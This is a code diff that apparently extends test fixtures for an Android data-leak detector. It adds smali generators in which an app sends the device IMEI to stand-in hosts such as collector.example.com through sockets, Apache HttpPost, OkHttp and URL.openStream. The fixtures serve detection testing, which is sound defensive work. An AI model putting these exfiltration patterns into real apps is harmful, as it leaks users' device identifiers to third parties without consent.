@@ -247,6 +247,63 @@ def socket(known: bool) -> dict[str, str]:
         "    move-result-object v4\n" + _write("v4"))}
 
 
+def socket_address(known: bool) -> dict[str, str]:
+    """``new Socket()`` connected to ``new InetSocketAddress("collector.example.com", 9000)``."""
+    host = _const("v1", "collector.example.com") if known else _user("v1")
+    return {"M.smali": _activity(
+        host + "    const/16 v7, 0x2328\n    new-instance v5, Ljava/net/InetSocketAddress;\n"
+        "    invoke-direct {v5, v1, v7}, Ljava/net/InetSocketAddress;-><init>(Ljava/lang/String;I)V\n"
+        "    new-instance v2, Ljava/net/Socket;\n    invoke-direct {v2}, Ljava/net/Socket;-><init>()V\n"
+        "    invoke-virtual {v2, v5}, Ljava/net/Socket;->connect(Ljava/net/SocketAddress;)V\n"
+        "    invoke-virtual {v2}, Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;\n"
+        "    move-result-object v4\n" + _write("v4"))}
+
+
+def apache(known: bool) -> dict[str, str]:
+    """``client.execute(post)`` of ``new HttpPost(URL)`` whose entity holds the IMEI."""
+    url = _const("v1", URL) if known else _user("v1")
+    post, entity = "Lorg/apache/http/client/methods/HttpPost;", "Lorg/apache/http/entity/StringEntity;"
+    client = "Lorg/apache/http/impl/client/DefaultHttpClient;"
+    return {"M.smali": _activity(
+        url + f"    new-instance v2, {post}\n"
+        f"    invoke-direct {{v2, v1}}, {post}-><init>(Ljava/lang/String;)V\n"
+        f"    new-instance v3, {entity}\n"
+        f"    invoke-direct {{v3, v0}}, {entity}-><init>(Ljava/lang/String;)V\n"
+        f"    invoke-virtual {{v2, v3}}, {post}->setEntity(Lorg/apache/http/HttpEntity;)V\n"
+        f"    new-instance v4, {client}\n    invoke-direct {{v4}}, {client}-><init>()V\n"
+        f"    invoke-virtual {{v4, v2}}, {client}->execute(Lorg/apache/http/client/methods/HttpUriRequest;)"
+        "Lorg/apache/http/HttpResponse;\n")}
+
+
+def httpurl_builder(known: bool) -> dict[str, str]:
+    """``new HttpUrl.Builder().scheme("https").host(HOST).addQueryParameter("id", imei).build()``,
+    requested."""
+    host = _const("v1", "api.example.com") if known else _user("v1")
+    hb, rb = "Lokhttp3/HttpUrl$Builder;", "Lokhttp3/Request$Builder;"
+    return {"M.smali": _activity(
+        host + f"    new-instance v2, {hb}\n    invoke-direct {{v2}}, {hb}-><init>()V\n"
+        + _const("v3", "https") + f"    invoke-virtual {{v2, v3}}, {hb}->scheme(Ljava/lang/String;){hb}\n"
+        f"    invoke-virtual {{v2, v1}}, {hb}->host(Ljava/lang/String;){hb}\n"
+        + _const("v3", "id") + f"    invoke-virtual {{v2, v3, v0}}, {hb}->addQueryParameter("
+        f"Ljava/lang/String;Ljava/lang/String;){hb}\n"
+        f"    invoke-virtual {{v2}}, {hb}->build()Lokhttp3/HttpUrl;\n    move-result-object v3\n"
+        f"    new-instance v4, {rb}\n    invoke-direct {{v4}}, {rb}-><init>()V\n"
+        f"    invoke-virtual {{v4, v3}}, {rb}->url(Lokhttp3/HttpUrl;){rb}\n")}
+
+
+def string_format(known: bool) -> dict[str, str]:
+    """``new URL(String.format("https://host/u?id=%s", imei)).openStream()``."""
+    fmt = _const("v1", URL + "?id=%s") if known else _user("v1")
+    return {"M.smali": _activity(
+        fmt + "    const/4 v7, 0x1\n    new-array v6, v7, [Ljava/lang/Object;\n    const/4 v7, 0x0\n"
+        "    aput-object v0, v6, v7\n"
+        "    invoke-static {v1, v6}, Ljava/lang/String;->format(Ljava/lang/String;[Ljava/lang/Object;)"
+        "Ljava/lang/String;\n    move-result-object v1\n"
+        "    new-instance v2, Ljava/net/URL;\n"
+        "    invoke-direct {v2, v1}, Ljava/net/URL;-><init>(Ljava/lang/String;)V\n"
+        "    invoke-virtual {v2}, Ljava/net/URL;->openStream()Ljava/io/InputStream;\n")}
+
+
 def webview(known: bool) -> dict[str, str]:
     """``webView.postUrl(URL, imei.getBytes())``."""
     url = _const("v1", URL) if known else _user("v1")
@@ -268,6 +325,10 @@ FAMILIES = {
     "retrofit": (retrofit, ORIGIN),
     "volley": (volley, ORIGIN),
     "socket": (socket, "tcp://collector.example.com:9000"),
+    "socket_address": (socket_address, "tcp://collector.example.com:9000"),
+    "apache": (apache, ORIGIN),
+    "httpurl_builder": (httpurl_builder, ORIGIN),
+    "string_format": (string_format, ORIGIN),
     "webview": (webview, ORIGIN),
 }
 
